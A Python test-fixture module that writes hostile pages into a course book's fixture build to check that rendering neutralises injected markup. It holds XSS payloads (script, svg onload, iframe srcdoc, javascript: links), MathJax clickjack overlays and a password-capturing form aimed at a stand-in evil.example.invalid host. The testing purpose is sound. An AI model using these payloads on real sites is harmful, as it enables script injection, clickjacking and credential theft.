"""The hostile authored pages of the fixture book (tests/browser/fixture_book): written into the
book's copy before its one build (``conftest.fixture_site``), checked by test_authored_content.py.

Built the way the course builds its own pages (issue 12: F1, F3, F18):

* a case file that **passes validation** but is full of Markdown/MyST syntax (substitutions,
  links to ``javascript:``, entities spelling ``<script>``, comments, directives, maths, remote
  images): its page (the ``{case}`` directive) and ``cases/index.md`` come from
  :mod:`coursebook.notebooks`;
* the payloads validation **refuses**, put into a case model directly (skipping validation) and
  through the notebook generator (its Markdown cells built as a page);
* a quiz bank that passes validation with escaped HTML, entities, code spans and an http(s) link;
* a MyST page with MathJax ``\\href{javascript:...}`` and a full-page ``\\style`` clickjack
  overlay written straight into ``$...$``.

The pages are listed in ``fixture_book/_toc.yml`` (so the sidebar of every fixture page shows the
hostile case titles) and are also checked as ordinary clean pages by test_pages.py.

The fixture book's ``bibliography.md`` is written here too (:func:`write_bibliography`), when the
book is built: its ``{bibliography}`` lists a covering set of the course's references
(:func:`bibliography_cover`: every entry type, field, kind of name list and ``.bib`` file of
``references/`` on at least one entry, computed from the files when the book is built), not all
of them (``:all:``). All of them are on the course's own bibliography page
(``chapters/bibliography.md``), built by the same extension and checked by test_pages.py; the
fixture book's copy of them cost the build about 1 s of CPU formatting 190 entries, and its page
check as much again.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import yaml

try:
    from .covering import greedy_cover
except ImportError:  # imported as a top-level module (benchmarks/build_cpu.py)
    from covering import greedy_cover  # type: ignore[no-redef]

ROOT = Path(__file__).resolve().parents[2]

#: The hostile pages (paths in the built site).
PAGES = (
    "chapters/maths.html",
    "chapters/quiz.html",
    "cases/index.html",
    "cases/accepted_payloads.html",
    "cases/refused_payloads.html",
)

PWN = "window.bmPwned=1;alert(document.domain)"

#: Accepted by `bonemets validate` (plain text with Markdown/MyST syntax): shown as typed.
ACCEPTED_TITLE = "Femur {{x}} *not emphasis* [click](javascript:window.bmPwned=1) `code` & co"
ACCEPTED_SUMMARY = "\n\n".join(
    [
        "% not a MyST comment",
        "# not a heading",
        "1. not a list",
        ":::{raw} html",
        "{raw}`html` &lt;script&gt;window.bmPwned=1&lt;/script&gt; and &#60;b&#62;",
        "Dose $x^2$ and $$y$$ and \\(z\\) and 5 <- 7 mg, (target)=, | a | b |",
        "![pixel](https://tracker.example.invalid/p.png) https://tracker.example.invalid/x",
        "{{ substitution }} {eval-rst}`.. raw:: html` ```{raw} html```",
    ]
)

#: Refused by validation; made inert by the escaping alone (rendered without validation here).
REFUSED = {
    "title": f'Lytic femur <svg onload="{PWN}"></svg>',
    "summary": f"<script>{PWN}</script>\n\n<details open ontoggle={PWN}><summary>x</summary></details>",
    "histology": f'<iframe srcdoc="<script>{PWN}</script>"></iframe>',
    "question": f"<a href=javascript:{PWN}>click</a> $\\href{{javascript:{PWN}}}{{maths link}}$",
    "answer": "<form action=https://evil.example.invalid/login><input name=pw></form> "
    "$\\style{position:fixed;top:0;left:0;width:100vw;height:100vh;background:red}{X}$ "
    "$\\cssId{overlay}{y}\\class{bm-quiz}{z}$",
}

BANK = """\
kind: quiz
chapter: radiotherapy
items:
  - id: radiotherapy.hostile_escaped
    type: single
    objective: radiotherapy.fractionation
    stem: >-
      Which is shown as text: \\<script\\>window.bmPwned=1\\</script\\>,
      &lt;svg onload=alert(1)&gt;, `<iframe srcdoc=x>` and $\\frac{1}{2}$?
    options:
      a: "All of them, as typed: &lt;form&gt;"
      b: "`<details open ontoggle=alert(1)>`"
    answer: a
    explanation: >-
      Raw HTML cannot be written in a bank; entities and code spans are text. A link to
      [an outside page](https://example.org/) opens only when clicked.
    citation: Author A et al., Journal 2020
  - id: radiotherapy.hostile_case
    type: single
    objective: radiotherapy.fractionation
    case: accepted_payloads
    stem: What does the case title show?
    options: {a: Its text, b: Markup}
    answer: a
    explanation: Case text is plain text.
    citation: Author A et al., Journal 2020
"""

MATHS_PAGE = f"""# Maths payloads

MathJax runs in safe mode: this link does nothing.

$\\href{{javascript:{PWN}}}{{CLICK-THE-MATHS}}$

$\\style{{position:fixed;top:0;left:0;width:100vw;height:100vh;opacity:0;z-index:99999}}{{\\href{{javascript:{PWN}}}{{X}} }}$

$\\cssId{{bm-overlay}}{{a}} + \\class{{bm-injected}}{{b}} = \\frac{{1}}{{2}}$

Ordinary maths still works: $E = mc^2$.
"""

QUIZ_PAGE = """# Quiz payloads

```{quiz} radiotherapy
```
"""


def _case_data() -> dict[str, Any]:
    data = yaml.safe_load((ROOT / "cases" / "data" / "breast_lytic_femur.yaml").read_text())
    data["id"] = "accepted_payloads"
    data["teaching"]["title"] = ACCEPTED_TITLE
    data["teaching"]["summary"] = ACCEPTED_SUMMARY
    data["teaching"]["discussion"][0]["question"] = "What is $\\frac{1}{2}$ of {{x}}?"
    data["teaching"]["discussion"][0]["answer"] = "[see](javascript:window.bmPwned=1) **half**"
    return data


def _markdown_only(nb: Any) -> Any:
    """The generated notebook without its code cells (the Markdown is what is tested; nothing
    needs a kernel)."""
    nb.cells = [c for c in nb.cells if c.cell_type == "markdown"]
    return nb


def write_pages(book: Path) -> None:
    """Write the hostile sources into ``book`` (a copy of the fixture book, with the course's
    ``_config.yml``, references and ``chapters/objectives.yaml``)."""
    from bonemets.cases.io import load_case
    from bonemets.patient import Case
    from coursebook.notebooks import case_notebook, case_page, index_markdown

    (book / "chapters").mkdir(exist_ok=True)
    (book / "chapters" / "maths.md").write_text(MATHS_PAGE, encoding="utf-8")
    (book / "chapters" / "quiz.md").write_text(QUIZ_PAGE, encoding="utf-8")
    (book / "quizzes").mkdir(exist_ok=True)
    (book / "quizzes" / "radiotherapy.yaml").write_text(BANK, encoding="utf-8")
    data_dir = book / "cases" / "data"
    data_dir.mkdir(parents=True, exist_ok=True)

    accepted_file = data_dir / "accepted_payloads.yaml"
    accepted_file.write_text(yaml.safe_dump(_case_data(), allow_unicode=True), encoding="utf-8")
    accepted = load_case(accepted_file)  # passes validation
    raw = _case_data()
    raw["id"] = "refused_payloads"
    raw["teaching"]["title"] = REFUSED["title"]
    raw["teaching"]["summary"] = REFUSED["summary"]
    raw["primary"]["histology"] = REFUSED["histology"]
    raw["teaching"]["discussion"][0]["question"] = REFUSED["question"]
    raw["teaching"]["discussion"][0]["answer"] = REFUSED["answer"]
    refused = Case.model_validate(raw)  # the models alone: validation would refuse the text

    cases = {"accepted_payloads": accepted, "refused_payloads": refused}
    # The accepted case: its book page as generated ({case} directives, rendered from the file).
    # The refused one cannot have a page (the directive validates its file): its notebook's
    # Markdown, as Jupyter shows it, is built as a page instead.
    (book / "cases" / "accepted_payloads.md").write_text(case_page(accepted, book), "utf-8")
    cells = _markdown_only(case_notebook(refused, book)).cells
    (book / "cases" / "refused_payloads.md").write_text(
        "\n\n".join(c.source for c in cells) + "\n", encoding="utf-8"
    )
    (book / "cases" / "index.md").write_text(index_markdown(cases, book), encoding="utf-8")
    write_bibliography(book)


def bibliography_features(references: Path) -> dict[str, frozenset[str]]:
    """Each entry of ``references/*.bib`` (by key) -> what its formatting depends on: its file,
    its entry type, each of its fields, each kind of name list (author, editor), and whether it
    has non-ASCII text, braces (protected capitals) or an "and others" name list."""
    from pybtex.database import parse_file

    features: dict[str, frozenset[str]] = {}
    for path in sorted(references.glob("*.bib")):
        for key, entry in parse_file(str(path)).entries.items():
            names = " ".join(str(p) for people in entry.persons.values() for p in people)
            text = " ".join(entry.fields.values()) + " " + names
            found = {f"file:{path.name}", f"type:{entry.type.lower()}"}
            found |= {f"field:{name.lower()}" for name in entry.fields}
            found |= {f"names:{role.lower()}" for role in entry.persons}
            if any(ord(c) > 127 for c in text):
                found.add("non-ascii")
            if "{" in "".join(entry.fields.values()):
                found.add("braces")
            if "others" in names.split():
                found.add("others")
            features[key] = frozenset(found)
    return features


def bibliography_cover(
    references: Path, features: dict[str, frozenset[str]] | None = None
) -> list[str]:
    """The keys of a covering set of the entries (:func:`bibliography_features`, unless given;
    the browser tests' greedy cover, ``covering.greedy_cover``): together they have every
    feature any entry has."""
    if features is None:
        features = bibliography_features(references)
    return greedy_cover(features, {key: 1.0 for key in features})


def write_bibliography(book: Path) -> None:
    """``bibliography.md`` of ``book``: a ``{bibliography}`` of :func:`bibliography_cover`."""
    keys = ", ".join(f'"{k}"' for k in bibliography_cover(book / "references"))
    (book / "bibliography.md").write_text(
        "# Bibliography\n\nA covering set of the course's references (every entry type, field and "
        "kind of name list; written by `tests/browser/authored_book.py`).\n\n"
        f"```{{bibliography}}\n:filter: key in {{{keys}}}\n```\n",
        encoding="utf-8",
    )
